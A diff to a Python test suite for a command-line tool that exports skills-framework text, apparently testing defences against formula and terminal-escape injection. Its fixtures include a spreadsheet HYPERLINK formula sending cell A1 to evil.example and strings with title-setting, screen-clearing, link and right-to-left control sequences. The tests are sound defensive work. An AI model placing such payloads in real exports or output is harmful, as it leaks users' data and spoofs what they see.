@@ -15,33 +15,27 @@ from pathlib import Path
 
 import pytest
 
-from hostile import KEY_PEOPLE, ROOT, Case, both, check_case, unit, write
+from hostile import KEY_PEOPLE, ROOT, TERMINAL_CONTROLS, Case, both, check_case, unit, write
 from hostile_inputs import with_k1
 
-FORMULA = '=HYPERLINK("http://x.example/?leak","click")'
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
 # A window title, a clear screen, an OSC-8 link, a C1 CSI and a right-to-left override.
 ESCAPES = "\x1b]0;pwned\x07 \x1b[2J \x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\ \x9b31m \u202eevil"
-RAW = ("\x1b", "\x07", "\x9b", "\u202e")
-
-
-# Further cases of the class, first written on a parallel branch of #27 (guards) and kept here.
-FORMULA_FAR = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
-RAW_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 SDF = (ROOT / "data/raw/sdf/cwdc-skills-development-framework.txt").read_text(encoding="utf-8")
 
 
 def _no_raw_shown(_: Path, result: subprocess.CompletedProcess) -> None:
     for stream in (result.stdout, result.stderr):
-        assert not RAW_RE.search(stream), repr(RAW_RE.findall(stream))
+        assert not TERMINAL_CONTROLS.search(stream), repr(TERMINAL_CONTROLS.findall(stream))
     shown = result.stdout + result.stderr
     assert "␛" in shown or "\\x1b" in shown  # shown, not dropped: nothing is lost
 
 
 def _no_raw_at_all(result: subprocess.CompletedProcess) -> None:
-    assert not RAW_RE.search(result.stdout + result.stderr), result.stderr
+    assert not TERMINAL_CONTROLS.search(result.stdout + result.stderr), result.stderr
 
 
-def _hostile_unit(name: str = "units/key-people.txt", text: str = FORMULA_FAR + " know the " + ESCAPES):
+def _hostile_unit(name: str = "units/key-people.txt", text: str = FORMULA + " know the " + ESCAPES):
     return lambda tmp: unit(tmp, name, with_k1(text))
 
 
@@ -76,30 +70,6 @@ def _with(text: str) -> str:
     return KEY_PEOPLE.replace("P12 implement", f"P12 {text} implement", 1)
 
 
-def no_raw_escapes(_: Path, result: subprocess.CompletedProcess) -> None:
-    for char in RAW:
-        assert char not in result.stdout + result.stderr, repr(char)
-
-
-def _csv_cells_safe(column: str):
-    def check(_: Path, result: subprocess.CompletedProcess) -> None:
-        rows = list(csv.DictReader(io.StringIO(result.stdout)))
-        assert rows
-        for row in rows:
-            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
-        assert any(row[column].startswith("'=HYPERLINK") for row in rows)
-
-    return check
-
-
-def _sdf(tmp: Path) -> None:
-    unit(
-        tmp,
-        "units/sdf.txt",
-        (ROOT / "data/raw/sdf/cwdc-skills-development-framework.txt").read_text(encoding="utf-8"),
-    )
-
-
 def _escaped_name(tmp: Path) -> None:
     unit(tmp, "units/a\x1b]0;title\x07b.txt", _with(ESCAPES))
 
@@ -110,26 +80,26 @@ CASES: dict[str, Case] = {
         ["crosswalk", "nos", "sdf", "--source-corpus", "units", "-f", "csv"],
         lambda t: unit(t, "units/kp.txt", KEY_PEOPLE.replace("P12 implement", "P12 " + FORMULA + " implement", 1)
                        .replace("\nP12 ", "\nP12 ", 1)),
-        exit=0, check=_csv_cells_safe("source_text")),
+        exit=0, check=_csv_cells),
     # --- terminal output ---------------------------------------------------------------------------
     "show: escape sequences in a criterion": Case(["--corpus", "kp.txt", "show", "nos/kp/P12"], write("kp.txt", _with(ESCAPES)),
-                                                  exit=0, stdout="P12", check=no_raw_escapes),
+                                                  exit=0, stdout="P12", check=_no_raw_shown),
     "search: escape sequences in a hit": Case(["--corpus", "kp.txt", "search", "pwned"], write("kp.txt", _with(ESCAPES)),
-                                              exit=0, stdout="nos/kp/P12", check=no_raw_escapes),
-    "validate text: escape sequences in a file name and text": Case(["validate", "units"], _escaped_name, exit=1, check=no_raw_escapes),
+                                              exit=0, stdout="nos/kp/P12", check=_no_raw_shown),
+    "validate text: escape sequences in a file name and text": Case(["validate", "units"], _escaped_name, exit=1, check=_no_raw_shown),
     "validate github: escape sequences in a file name and text": Case(["validate", "units", "-f", "github"], _escaped_name,
-                                                                      exit=1, stdout="::error", check=no_raw_escapes),
-    "list: escape sequences in a file name": Case(["--corpus", "units", "list"], _escaped_name, exit=0, check=no_raw_escapes),
+                                                                      exit=1, stdout="::error", check=_no_raw_shown),
+    "list: escape sequences in a file name": Case(["--corpus", "units", "list"], _escaped_name, exit=0),
     "an error message quoting a file name with escapes": Case(["--corpus", "a\x1b[2Jb.txt", "list"], stderr="no such file",
-                                                              check=no_raw_escapes),
+                                                              check=_no_raw_shown),
     "diff markdown: escape sequences in a change": Case(["diff", "old.txt", "new.txt", "-f", "markdown"],
                                                         both(write("old.txt", KEY_PEOPLE), write("new.txt", _with(ESCAPES))),
-                                                        exit=0, check=no_raw_escapes),
+                                                        exit=0, check=_no_raw_shown),
     "statements JSON: C1 and bidi controls escaped": Case(["--corpus", "kp.txt", "statements", "-f", "json"], write("kp.txt", _with(ESCAPES)),
-                                                          exit=0, stdout="\\u009b31m", check=no_raw_escapes),
+                                                          exit=0, stdout="\\u009b31m"),
     "crosswalk text: escape sequences in a source": Case(["--corpus", "units", "crosswalk", "nos", "sdf", "--no-reviews"],
-                                                         both(lambda t: unit(t, "units/kp.txt", _with(ESCAPES)), _sdf), exit=0,
-                                                         stdout="nos/kp/P12", check=no_raw_escapes),
+                                                         both(lambda t: unit(t, "units/kp.txt", _with(ESCAPES)), _with_sdf), exit=0,
+                                                         stdout="nos/kp/P12", check=_no_raw_shown),
     # --- a closed stdout ---------------------------------------------------------------------------
     "stdout closed (list)": Case(["list"], env={"STDOUT": "closed"}, stderr="standard output is closed"),
     "stdout closed, -o given: runs": Case(["export", "-f", "json", "--framework", "sdf", "-o", "x.json"], env={"STDOUT": "closed"},
@@ -140,11 +110,11 @@ CASES: dict[str, Case] = {
     # --- control characters in xlsx ---------------------------------------------------------------
     "crosswalk review workbook: a control character in a heading": Case(
         ["--corpus", "units", "crosswalk", "nos/key-people", "sdf/3", "-f", "xlsx", "-o", "r.xlsx"],
-        both(lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA_FAR + " a\x01b").replace(" Rights", " Rig\x01hts", 1)), _with_sdf),
+        both(lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA + " a\x01b").replace(" Rights", " Rig\x01hts", 1)), _with_sdf),
         exit=0, check=_xlsx_cells("r.xlsx")),
     "export xlsx: a control character in a criterion and a heading": Case(
         ["--corpus", "units", "export", "-f", "xlsx", "-o", "o.xlsx"],
-        lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA_FAR + " a\x01b").replace(" Rights", " Rig\x01hts", 1)),
+        lambda t: unit(t, "units/key-people.txt", with_k1(FORMULA + " a\x01b").replace(" Rights", " Rig\x01hts", 1)),
         exit=0, check=_xlsx_cells("o.xlsx")),
     "show: escapes in a section heading": Case(["--corpus", "units", "show", "nos/key-people"],
                                                lambda t: unit(t, "units/key-people.txt", KEY_PEOPLE.replace(" Rights", " Rights" + ESCAPES, 1)),
@@ -193,4 +163,4 @@ def test_review_page_download_guards_formulas_from_prior_decisions(tmp_path: Pat
         + f"\nprocess.stdout.write(csvField({json.dumps(FORMULA)}) + '|' + csvField('@SUM(1)'));"
     )
     out = subprocess.run([node, "-e", probe], capture_output=True, text=True, check=True).stdout
-    assert out == '"\'=HYPERLINK(""http://x.example/?leak"",""click"")"|\'@SUM(1)'
+    assert out == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"|\'@SUM(1)'
